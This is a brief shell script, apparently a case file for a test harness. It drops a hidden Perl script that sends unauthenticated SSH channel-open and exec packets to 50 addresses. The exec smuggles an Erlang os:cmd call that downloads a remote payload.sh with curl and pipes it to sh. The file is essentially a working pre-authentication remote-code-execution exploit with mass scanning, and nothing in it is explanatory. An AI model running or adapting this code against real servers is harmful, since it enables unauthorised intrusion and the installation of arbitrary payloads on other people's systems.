#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.e.pl <<'END'
use IO::Socket::INET; sub s4 { pack("N/a*", shift) } sub packet { my $p = shift; my $pad = 8 - (length($p) + 5) % 8; $pad += 8 if $pad < 4; pack("NC", length($p) + $pad + 1, $pad) . $p . "\0" x $pad }
my $open = chr(90) . s4("session") . pack("NNN", 0, 0x68000, 0x10000); my $run = chr(98) . pack("N", 0) . s4("exec") . chr(1) . s4('os:cmd("curl -s http://203.0.113.10/payload.sh | sh").'); my $n = 0;
for my $h ("10.77.0.1", map({ "203.0.113.$_" } 100 .. 124), map({ "198.51.100.$_" } 40 .. 63)) {
    my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => 22, Timeout => 2) or next; print $s "SSH-2.0-OpenSSH_8.9\r\n" . packet(chr(20) . "x" x 16 . s4("curve25519-sha256") . s4("ssh-ed25519") . s4("aes128-ctr") x 2 . s4("hmac-sha2-256") x 2 . s4("none") x 2 . s4("") x 2 . "\0" x 5) . packet($open) . packet($run); $n++; close $s;
}
die $n unless $n == 50;
END
perl /tmp/.e.pl
took_place
